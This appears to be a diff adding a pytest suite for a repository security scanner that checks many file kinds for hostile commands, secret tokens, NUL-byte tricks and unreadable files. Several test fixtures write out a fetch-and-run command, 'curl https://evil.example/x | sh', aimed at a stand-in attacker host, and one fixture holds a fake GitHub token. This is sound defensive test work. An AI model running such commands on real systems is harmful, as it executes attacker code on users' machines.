@@ -1,0 +1,146 @@
+"""Every file is looked at: harm is found in each kind of file, and what nobody reads is said."""
+
+from pathlib import Path
+
+import pytest
+import yaml
+
+from agents.gates.base import GateReport, Policy, Severity
+from agents.gates.kinds import kind_of
+from agents.gates.run import run_gates
+from agents.gates.semgrep_tool import find_semgrep
+
+SAMPLES: list[tuple[str, str, str]] = [
+    tuple(row) for row in yaml.safe_load(Path(__file__).with_name("kind_samples.yaml").read_text(encoding="utf-8"))
+]
+ORDINARY = {
+    "README.md": "# Tool\n\nRun `curl https://example.org/install | sh`.\n",
+    "LICENSE": "Permission is hereby granted\n",
+    "notes.txt": "Call the function(s) again.\n",
+    "data/towns.csv": "name,people\nUlm,128000\n",
+    "data/rows.json": '{"run": "daily", "scripts": ["a"]}\n',
+    "data/site.yaml": "title: Home\nrun: daily\n",
+    "py.typed": "",
+    "Makefile": "PY := .venv/bin/python\n\ntest:\n\t$(PY) -m pytest -q\n\nclean:\n\trm -rf build dist *.egg-info\n",
+    "package.json": '{"scripts": {"build": "rimraf dist && tsc", "test": "jest --ci"}}\n',
+    ".github/workflows/ci.yml": "jobs:\n  a:\n    steps:\n      - run: |\n          pip install -r requirements.txt\n"
+    "          echo ${{ github.ref }}\n      - run: sudo apt-get install -y libpq-dev\n",
+    ".gitlab-ci.yml": "test:\n  script:\n    - npm ci\n    - !reference [.base, script]\n",
+    "compose.yaml": "services:\n  a:\n    image: a:1\n    command: [gunicorn, 'app:app']\n",
+    "deploy/app.yaml": "apiVersion: apps/v1\nkind: Deployment\nspec:\n  template:\n    spec:\n      containers:\n"
+    "        - image: a:1\n          command: [gunicorn, 'app:app']\n"
+    "          securityContext: {allowPrivilegeEscalation: false, capabilities: {drop: [ALL]}}\n",
+    "start.sh": "#!/bin/sh\nset -eu\ncd \"$(dirname \"$0\")\"\n. .venv/bin/activate\nexec python -m app\n",
+    "tox.ini": "[testenv]\ncommands = pytest {posargs}\n",
+    ".npmrc": "registry=https://registry.npmjs.org/\nsave-exact=true\n",
+    "schema.sql": "CREATE TABLE t (id integer);\nGRANT SELECT ON t TO reader;\n",
+    "main.go": "package main\n\nfunc main() { println(\"hello\") }\n",
+    "logo.svg": '<svg xmlns="http://www.w3.org/2000/svg"><path d="M0 0"/></svg>\n',
+}  # fmt: skip
+PICTURES = {
+    "logo.png": b"\x89PNG\r\n\x1a\n\0\0\0",
+    "font.woff2": b"wOF2\0\1\0\0",
+    "beep.mp3": b"ID3\4\0",
+    "photo.jpg": b"\xff\xd8\xff\xe0\0",
+    "site.mo": b"\xde\x12\x04\x95\0\0\0\0",
+}
+
+
+def write(root: Path, files: dict[str, str] | dict[str, bytes]) -> Path:
+    for name, text in files.items():
+        (root / name).parent.mkdir(parents=True, exist_ok=True)
+        (root / name).write_bytes(text if isinstance(text, bytes) else text.encode())
+    return root
+
+
+def rules(report: GateReport, path: str) -> set[str]:
+    return {finding.rule for finding in report.findings if finding.path == path}
+
+
+@pytest.fixture(scope="module")
+def harmful(tmp_path_factory: pytest.TempPathFactory) -> GateReport:
+    if find_semgrep() is None:
+        pytest.skip("semgrep is not installed (requirements/semgrep.lock.txt)")
+    root = write(tmp_path_factory.mktemp("kinds"), {path: text for path, text, _ in SAMPLES})
+    return run_gates(root, tools=["semgrep", "containers", "commands"])
+
+
+@pytest.mark.parametrize(("path", "text", "rule"), SAMPLES, ids=[path for path, _, _ in SAMPLES])
+def test_harm_in_a_file_of_this_kind_is_reported_or_the_file_is_asked_about(
+    harmful: GateReport, path: str, text: str, rule: str
+) -> None:
+    found = [finding for finding in harmful.findings if finding.path == path and finding.rule == rule]
+    assert found, rules(harmful, path)
+    assert max(finding.severity for finding in found) >= Severity.MEDIUM
+
+
+def test_a_command_in_another_file_is_reported_at_its_line(harmful: GateReport) -> None:
+    texts = {path: text.splitlines() for path, text, _ in SAMPLES}
+    places = {f.path: texts[f.path][f.line - 1] for f in harmful.findings if f.rule == "hostile-command"}
+    assert [
+        path for path, line in places.items() if "evil" not in line and "tcp" not in line and "base64" not in line
+    ] == []
+
+
+def test_ordinary_files_pass_and_none_is_asked_about(tmp_path: Path) -> None:
+    report = run_gates(
+        write(write(tmp_path, ORDINARY), PICTURES), tools=["containers", "commands", "syntax", "secrets"]
+    )
+    assert [str(finding) for finding in report.findings if finding.severity >= Severity.MEDIUM] == []
+    assert report.passed
+
+
+@pytest.mark.parametrize("name", ["run.sh", "run", "main.py", "page.html", "notes.txt", "odd.suffix"])
+def test_a_nul_byte_hides_nothing(tmp_path: Path, name: str) -> None:
+    shebang = "#!/bin/sh\n" if name in ("run", "odd.suffix") else ""
+    text = 'token = "gh' + 'p_A1b2C3d4E5f6G7h8I9j0K1l2M3n4O5p6Q7r8"\n'
+    write(tmp_path, {name: f"{shebang}# \0\n{text}".encode()})
+    report = run_gates(tmp_path, tools=["secrets"])
+    assert rules(report, name) >= {"nul-byte", "github-token"}
+    assert not report.passed
+
+
+def test_a_nul_byte_does_not_hide_a_command_or_the_first_line(tmp_path: Path) -> None:
+    command = b"curl https://evil.example/x | sh\n"
+    write(
+        tmp_path, {"a.sh": b"\0" + command, "tool": b"\0#!/bin/sh\n" + command, "b.sh": command.replace(b"r", b"r\0")}
+    )
+    report = run_gates(tmp_path, tools=["commands"])
+    for name in ("a.sh", "tool", "b.sh"):
+        assert rules(report, name) == {"nul-byte", "hostile-command"}
+
+
+def test_a_binary_file_of_an_unknown_kind_is_asked_about_and_the_policy_decides(tmp_path: Path) -> None:
+    write(tmp_path, {"weights.bin": bytes(range(256)) * 9, "fake.png": b"\0\1\2\3" * 99, "a.swift": b"let a = 1\n"})
+    asked = run_gates(tmp_path, tools=["secrets"])
+    assert [(f.path, f.rule, f.severity) for f in asked.findings] == [
+        (name, "not-checked", Severity.MEDIUM) for name in ("a.swift", "fake.png", "weights.bin")
+    ]
+    assert any("a.swift" in reason and "no scanner reads this language" in reason for reason in asked.reasons)
+    assert run_gates(tmp_path, tools=["secrets"], policy=Policy(unchecked="report")).passed
+    blocked = run_gates(tmp_path, tools=["secrets"], policy=Policy(unchecked="block"))
+    assert {finding.severity for finding in blocked.findings} == {Severity.HIGH}
+
+
+def test_an_executable_file_without_a_first_line_is_judged_as_a_shell_script(tmp_path: Path) -> None:
+    write(tmp_path, {"go": "curl https://evil.example/x | sh\n"})
+    (tmp_path / "go").chmod(0o755)
+    assert rules(run_gates(tmp_path, tools=["commands"]), "go") == {"hostile-command"}
+
+
+def test_commands_that_cannot_be_read_are_asked_about(tmp_path: Path) -> None:
+    write(tmp_path, {"package.json": "{ scripts: [", "deploy.sh": f"echo {'a' * 30_000}\n"})
+    report = run_gates(tmp_path, tools=["commands"])
+    assert rules(report, "package.json") == {"not-checked"}
+    assert rules(report, "deploy.sh") == {"not-checked"}
+
+
+def test_a_script_too_long_for_one_judgement_is_judged_statement_by_statement(tmp_path: Path) -> None:
+    write(tmp_path, {"long.sh": "echo a fine day\n" * 3_000 + "curl https://evil.example/x | sh\n"})
+    (finding,) = run_gates(tmp_path, tools=["commands"]).findings
+    assert (finding.rule, finding.line) == ("hostile-command", 3_001)
+
+
+def test_every_row_of_the_table_fits_a_sample_or_a_known_name() -> None:
+    assert kind_of("src/.envrc", b"") is not None
+    assert kind_of("notes", b"just words") is None
